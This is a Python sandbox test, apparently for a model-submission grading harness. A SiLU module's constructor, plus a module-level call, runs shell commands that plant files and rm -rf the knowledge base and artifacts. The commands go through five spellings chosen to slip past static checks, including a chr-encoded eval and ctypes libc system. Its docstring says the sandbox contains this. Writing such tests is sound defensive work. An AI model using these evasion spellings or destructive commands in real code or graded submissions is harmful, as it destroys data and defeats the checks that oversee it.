"""Attack: run shell commands by every spelling the static checks might miss (`os.system`,
`__import__('subprocess')`, `eval` of an obfuscated string, libc's `system` through ctypes,
`os.posix_spawn`), each trying to plant a file beside the KB and to delete the KB.

Stopped by: the sandbox as a whole. Whatever the spelling, the commands run, but inside it: as
nobody, in a mount view without the KB, its folder or the server's files, with a writable scratch
folder only. Nothing they do reaches the server's side.
"""

import ctypes
import os

import torch
import torch.nn as nn

T = __TARGETS__
CMD = f"touch {T['marker']}; touch {T['kb_dir']}/planted; rm -rf {T['kb']} {T['artifacts']}; echo ran > ~/spelled"


def attack() -> None:
    os.system(CMD)
    __import__("subprocess").run(["/bin/sh", "-c", CMD], check=False)
    eval("".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95, 40, 39, 111, 115, 39, 41])) + ".system(CMD)")
    ctypes.CDLL(None).system(CMD.encode())
    try:
        pid = os.posix_spawn("/bin/sh", ["/bin/sh", "-c", CMD], dict(os.environ))
        os.waitpid(pid, 0)
    except OSError:
        pass


attack()


class ModelNew(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        attack()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * torch.sigmoid(x)
